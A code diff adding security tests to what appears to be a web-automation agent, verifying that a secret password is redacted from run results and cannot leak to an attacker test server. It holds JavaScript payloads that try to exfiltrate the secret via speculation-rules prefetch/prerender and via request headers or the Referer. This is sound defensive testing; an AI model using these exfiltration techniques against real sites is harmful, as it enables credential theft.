@@ -152,3 +152,48 @@ async def test_select_on_a_combobox_checks_the_whole_option(guarded):
     await page.set_content(COMBO)
     assert await select(page, page.main_frame, page.locator("#c"), "combobox 'Language'", "JavaScript", 2000,
                         settled) == ["JavaScript"]
+
+
+async def test_the_run_result_is_redacted_like_the_footer(guarded, hostile, tmp_path):
+    """The CLI prints the result's reason, answer and final URL (stdout, stderr, `--json`), and RunResult.save
+    writes them: a final URL that carries the secret (a GET login form at its own host) must not show it."""
+    from tests.scripted import ScriptedChat
+    from webagent.agent import Agent, AgentConfig
+    agent = Agent(ScriptedChat(["stop [done]"]), config=AgentConfig(max_steps=2), secrets=guarded.secrets)
+    result = await agent.run("log in", hostile.url + "/?pw=" + SECRET, guarded, tmp_path / "run")
+    assert result.status == "answered"
+    assert SECRET not in result.final_url and "{{PW}}" in result.final_url, result.final_url
+    assert SECRET not in result.save(tmp_path / "result.json").read_text()
+
+
+SPECULATION_JS = """([a, v]) => { const s = document.createElement('script'); s.type = 'speculationrules';
+  s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [a + '/collect?prefetch=' + v]}],
+                                  prerender: [{source: 'list', urls: [a + '/collect?prerender=' + v]}]});
+  document.head.append(s); }"""
+
+
+async def test_speculation_rules_cannot_prefetch_a_secret_elsewhere(guarded, hostile):
+    """The browser process makes speculative prefetches and prerenders itself: no route sees them."""
+    import asyncio
+    await guarded.page.evaluate(SPECULATION_JS, [hostile.attacker.url, SECRET])
+    for _ in range(15):  # a prefetch goes out within milliseconds; give it a moment to show up
+        if hostile.attacker.hits:
+            break
+        await asyncio.sleep(0.1)
+    assert hostile.attacker.hits == []
+
+
+HEADER_JS = """async ([a, v]) => { const out = [];
+  for (const init of [{headers: {'Accept-Language': v}}, {referrerPolicy: 'unsafe-url'}]) {
+    try { await fetch(a + '/collect?via=header', {mode: 'no-cors', ...init}); out.push('fetched'); }
+    catch (e) { out.push('failed'); } }
+  return out; }"""
+
+
+async def test_a_secret_in_a_request_header_is_refused(guarded, hostile):
+    """A header a page may set without a preflight, and the Referer of a page whose URL holds the secret."""
+    await guarded.goto(hostile.url + "/?pw=" + SECRET)  # e.g. where a GET login form at home led
+    hostile.attacker.hits.clear()
+    said = await guarded.page.evaluate(HEADER_JS, [hostile.attacker.url, SECRET])
+    assert hostile.attacker.leaked() == [], hostile.attacker.hits
+    assert said == ["failed", "failed"]
